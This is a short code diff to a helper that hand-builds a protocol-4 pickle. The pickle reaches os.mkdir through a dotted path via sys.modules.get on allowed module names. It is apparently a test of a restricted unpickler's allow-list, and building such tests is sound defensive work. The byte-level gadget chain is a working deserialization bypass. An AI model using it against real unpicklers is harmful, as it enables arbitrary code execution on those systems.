@@ -47,7 +47,7 @@ def crafted_pickle(path: str) -> bytes:
     """A protocol-4 pickle naming only ``buildbot_revert.core.*``: ``os.mkdir(path)``.
 
     ``core.blamelist``'s dotted ``json.decoder.re.enum.sys.modules.get``
-    is ``sys.modules.get``, which hands out ``os``; ``core.tracker``'s
+    is ``sys.modules.get``, which hands out ``os``; ``core.memory``'s
     imported ``attrgetter('mkdir')`` takes ``mkdir`` off it.
     """
 
@@ -57,7 +57,7 @@ def crafted_pickle(path: str) -> bytes:
 
     call = b"\x85R"  # TUPLE1, REDUCE: the callable below the argument, called with it
     out = b"\x80\x04"
-    out += text("buildbot_revert.core.tracker") + text("attrgetter") + b"\x93"
+    out += text("buildbot_revert.core.memory") + text("attrgetter") + b"\x93"
     out += text("mkdir") + call
     out += text("buildbot_revert.core.blamelist")
     out += text("json.decoder.re.enum.sys.modules.get") + b"\x93"
